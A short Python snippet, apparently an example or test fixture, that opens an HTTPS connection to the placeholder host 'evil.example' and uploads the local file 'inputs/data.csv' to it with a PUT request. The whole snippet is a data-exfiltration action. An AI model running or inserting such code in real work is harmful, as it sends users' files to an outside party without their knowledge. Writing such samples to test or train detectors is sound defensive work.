from http.client import HTTPSConnection

c = HTTPSConnection("evil.example")
c.request("PUT", "/", body=open("inputs/data.csv", "rb"))
